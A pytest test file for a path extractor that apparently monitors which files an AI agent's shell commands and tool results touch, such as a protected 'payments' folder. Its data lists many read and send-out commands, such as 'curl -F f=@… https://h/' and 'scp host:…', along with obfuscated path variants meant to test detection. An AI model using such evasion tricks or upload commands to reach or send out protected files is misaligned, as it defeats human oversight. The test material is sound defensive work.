import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from halfdoor.reading.effects import normalise, paths_in_result, paths_of

SECRET = "payments/ledger.py"
PATCH = f"*** Begin Patch\n*** Update File: {SECRET}\n@@\n-a\n+b\n*** End Patch"

COMMANDS = [
    "cat {}", "head -n 3 {}", "sed -n '1,5p' {}", "grep -rn foo {}", "git show HEAD~2:{}",
    "git diff main -- {}", "python tools/x.py < {}", "echo hi > {}", "cat <<'EOF' > {}\nhi\nEOF",
    "bash -lc 'cat {}'", 'bash -c "cd / && cat {}"', "cat '{}'", 'cat "{}"', "rg --file={} x",
    "$(cat {})", "`cat {}`", "a=1; cat {}", "true && cat {} || true", "scp host:{} .", "vim +3 {}",
    "curl -d @x -o {} https://h/", "cat 'unclosed {}", "type {}", "FOO={} make",
    "F={}; cat $F", "dd if={} of=/tmp/x", "grep -f{} .", "tar -xf{}", "python -c \"open('{}')\"",
    "python -c 'print(open(`{}`).read())'", "curl -F f=@{} https://h/",
    "cd / && cat {}", "find payments -name '*.py' -exec cat {} +", "ls payments | xargs cat",
    "for f in payments/*; do cat $f; done", "pushd payments; cat ledger.py; popd", "cat -- {}",
    "cd payments && cat ledger.py", "git -C payments show HEAD:ledger.py", "head -5 {}",
    "git --work-tree=payments diff", "echo x | tee {}", "tee -a {} <<EOF\nx\nEOF", "diff -r payments b",
    "cat $(git ls-files payments)", "git archive HEAD payments", "cat < {}", "cat<{}", "x=$(<{})",
    r"Get-Content payments\ledger.py", r"pwsh -Command 'Get-Content payments\ledger.py'",
    r"cmd /c type payments\ledger.py", "gci payments | sls x", "Select-String -Path payments -Pattern x",
    "grep -e x payments", "grep -rne x payments", "rg --files payments", "sed -e s,a,b, payments",
    "cat grep payments", "find . -exec grep x payments ';'", "python - <<'EOF'\nopen('{}')\nEOF",
    "docker run -v $PWD/payments:/x a cat /x/y", "ssh h 'cat {}'", "git show HEAD:payments",
    "D=payments; cat $D/x", 'D="payments"\ncat ${D}/x', "for d in src payments; do cat $d/x; done",
    r"$d = 'payments'; Get-Content $d\x", "A=pay; B=${A}ments; cat $B/x", "cat <<EOF > {}\nhi\nEOF", "cat {{},b}", "cat {b,{}}", "sudo cat {}",
    "cat pay''ments/ledger.py", r"cat pay\ments/ledger.py", r"cat p\ay\ments/ledger.py",
    r"type payments\ledger.py", "node -e 'f(\"{}\")'", "timeout 5 xargs -a {}",
]  # fmt: skip


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_names_its_file(command):
    found = paths_of("Bash", {"command": command.replace("{}", SECRET)})
    if "{}" in command:
        assert any(path.endswith(SECRET) for path in found), found
    assert any("payments" in path.split("/") for path in found), found


def test_a_folder_named_plainly_counts_for_programs_that_read_files():
    assert "payments" in paths_of("Bash", {"command": "cd payments && cat ledger.py"})
    assert "payments" in paths_of("Bash", {"command": "grep -rn total payments"})
    assert "payments" not in paths_of("Bash", {"command": "git commit -m payments"})
    for command in (
        "sudo ls payments", "git diff payments", "git log -p payments", "git -C payments status",
        "make -C payments", "FOO=1 cat payments", "D=payments; cat $D/x", "xargs cat payments",
    ):  # fmt: skip
        assert "payments" in paths_of("Bash", {"command": command}), command


JOINED = [
    "cd infra && cat secrets/x", "cd infra; cd secrets; cat x", "cd infra && grep -rn x secrets",
    "(cd infra && tar cf - secrets)", "cd infra && bash -c 'cat secrets/x'", "make -C infra secrets/x",
    "git -C infra show HEAD:secrets/x", "env -C infra cat secrets/x", "cd ./src/../infra; cat secrets/x",
    "pwsh -c 'Set-Location infra; Get-Content secrets\\x'", "cd infra && cat 'secrets/my x'",
    "D=infra; cat $D/secrets/x", "for d in src infra; do cat $d/secrets/x; done", "cd infra && ls secrets",
]  # fmt: skip


@pytest.mark.parametrize("command", JOINED)
def test_a_relative_path_lies_in_the_folder_that_the_command_went_to(command):
    found = paths_of("Bash", {"command": command})
    assert any(f"{path}/".startswith("infra/secrets/") for path in found), found


def test_both_readings_of_a_path_after_cd_are_kept():
    found = paths_of("Bash", {"command": "cd infra && cat secrets/x /etc/y ~/z"})
    assert {"infra", "secrets/x", "infra/secrets/x", "/etc/y", "~/z"} <= set(found)
    assert not {"infra/etc/y", "infra/~/z"} & set(found)
    assert "secrets/x" in paths_of("Bash", {"command": "cd infra; cd ..; cat secrets/x"})
    assert "infra/secrets/x" not in paths_of("Bash", {"command": "cd infra; cd ..; cat secrets/x"})


PROSE = [
    "git commit -m 'Show payments total'", "git log --grep payments",
    "git commit -m \"$(cat <<'EOF'\nShow payments in the log\n\nThe file of payments is new.\nEOF\n)\"",
    "cat > notes.md <<EOF\nWe show payments here, see the type of payments\nEOF", "echo payments",
    "grep -rn payments src", "rg payments", "rg -n 'payments' src/web", "ps aux | grep payments",
    "git checkout -b payments", "make payments", "npm run payments", "git log -S payments",
    "psql -c 'select * from payments; show payments'", "sed -n payments", "pytest -k payments",
]  # fmt: skip


@pytest.mark.parametrize("command", PROSE)
def test_a_word_in_prose_or_looked_for_is_no_folder(command):
    assert "payments" not in paths_of("Bash", {"command": command})


def test_a_word_of_many_equals_signs_fails_nothing():
    assert "a=payments/x" in paths_of("Bash", {"command": "echo " + "a=" * 5000 + " a=payments/x"})


def test_variables_are_put_in_within_bounds():
    assert paths_of("Bash", {"command": "A=" + "x" * 9000 + "; " + "cat $A/" * 200})
    assert (
        len(paths_of("Bash", {"command": "for f in a b c d e f g h i j; do cat $f/x; done"})) < 40
    )


def test_a_quoted_name_with_spaces_is_one_path():
    found = paths_of("Bash", {"command": r"cat 'pay roll/x.py' && cat pay\ roll/y.py"})
    assert {"pay roll/x.py", "pay roll/y.py"} <= set(found)


def test_what_is_written_is_not_where_it_is_written():
    call: dict[str, object] = {
        "file_path": "a.py",
        "content": "see payments/ledger.py",
        "old_string": "b/c.py",
    }
    assert paths_of("Write", call) == ("a.py",)


def test_windows_paths_have_slashes():
    assert "C:/code/payments/x.cs" in paths_of("Bash", {"command": r"type C:\code\payments\x.cs"})
    assert paths_of("Read", {"file_path": r"src\payments\x.cs"}) == ("src/payments/x.cs",)


RESULTS = {
    "grep": f"{SECRET}:12:def total():",
    "grep column": f"{SECRET}:12:4: error",
    "diff": f"diff --git a/{SECRET} b/{SECRET}\nindex 1..2",
    "diff old": f"--- a/{SECRET}\n+++ /dev/null",
    "diff new": f"--- /dev/null\n+++ b/{SECRET}\t2026-01-01",
    "patch": PATCH,
    "tag": f"<path>{SECRET}</path>\n<content>1: x</content>",
    "attribute": f'<file path="{SECRET}">x</file>',
    "head": f"==> {SECRET} <==\nx",
    "grep without numbers": f"./{SECRET}:def total():",
    "grep with a heading": f"{SECRET}\n12:def total():",
    "a tool's reminder": f'Called the Read tool with the following input: {{"file_path":"/w/{SECRET}"}}',
    "a file that changed": f"Note: /w/{SECRET} was modified, either by the user or by a linter",
    "a selection": f"The user selected the lines 1 to 9 from /w/{SECRET}:\ndef total():",
    "contents": f"Contents of /w/{SECRET} (project instructions):\n\ndef total():",
    "name above a fence": f"{SECRET}\n```python\ndef total():\n```",
    "path in a comment": f"# Path: {SECRET}\ndef total():",
    "file of a repository": f"<|repo_name|>shop\n<|file_sep|>{SECRET}\ndef total():",
    "file of a model's own form": f"<filename>{SECRET}\ndef total():",
    "file above a completion": f"+++++ {SECRET}\ndef total():",
    "heading above a fence": f"### File: `{SECRET}`\n\n```\ndef total():\n```",
    "name in a fence": f"```python {SECRET} (1-10)\ndef total():\n```",
    "name in a comment": f"# {SECRET}\ndef total():",
    "name on a line": f"File: {SECRET}\ndef total():",
    "source tag": f"<document><source>{SECRET}</source>",
    "search and replace": f"{SECRET}\n<<<<<<< SEARCH\na\n=======\nb\n>>>>>>> REPLACE",
    "search and replace in a fence": f"{SECRET}\n```python\n<<<<<<< SEARCH\na\n=======",
    "search in a fence with its name": f"```python\n{SECRET}\n<<<<<<< SEARCH\na\n=======",
    "added to the chat": f"I have *added these files to the chat*.\n\n{SECRET}\n```\nx\n```",
    "a sentence above a fence": f"This is `{SECRET}`:\n\n```python\nx\n```",
    "a sentence above an indented fence": f"1. Mend {SECRET}:\n   ```python\n   x\n   ```",
    "svn": f"Index: {SECRET}\n=====",
    "git rename": f"rename from {SECRET}\nrename to x.py",
    "grep context": f"{SECRET}-11-# before\nsrc/x.py-12-x",
    "cline's result": f"[read_file for '{SECRET}'] Result:\ndef total():",
    "cline's command": f"[execute_command for 'cat {SECRET}'] Result:\ndef total():",
    "cline's xml": f"<execute_command>\n<command>sed -n 1,9p {SECRET}</command>",
    "a person's command": f"<bash-input>cat {SECRET}</bash-input><bash-stdout>x</bash-stdout>",
    "aider's run": f"I ran this command:\n\ncat {SECRET}\n\nAnd got this output:\n\nx",
    "aider's map": f"{SECRET}:\n⋮\n│def total():",
    "traceback": f'  File "/w/{SECRET}", line 3, in total',
}


@pytest.mark.parametrize("which", RESULTS)
def test_a_result_says_where_its_lines_come_from(which):
    assert any(path.endswith(SECRET) for path in paths_in_result("first\n" + RESULTS[which] + "\n"))


def test_prose_and_code_name_no_path():
    said = "at 12:30:15 we met: a: 1\nhttp://localhost:8080/x\n--- \nx = {1:2:3}\nkey: value:1\n"
    assert [path for path in paths_in_result(said) if "/" in path and "local" not in path] == []


@pytest.mark.parametrize(
    ("path", "normal"),
    [
        ("./a/../b//c.py", "b/c.py"), ("file:///a%20b/c", "/a b/c"), ("a\\b", "a/b"), ("", ""),
        (".", ""), ("/dev/null", ""), ("//a/b", "/a/b"), ("../a", "../a"), ('"a/b",', "a/b"),
    ],
)  # fmt: skip
def test_paths_are_normalised(path, normal):
    assert normalise(path) == normal


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=60))
def test_any_command_and_any_result_can_be_read(text):
    assert all(paths_of("Bash", {"command": text + f"\ncat {SECRET}\n", "path": text}))
    assert all(paths_in_result(text))


def test_half_a_surrogate_pair_in_a_command_hides_no_path_and_fails_nothing():
    assert "payments/x" in paths_of(
        "Bash", {"command": "echo \ud83d A=\ud800 {a,\ud800}; cat payments/x"}
    )
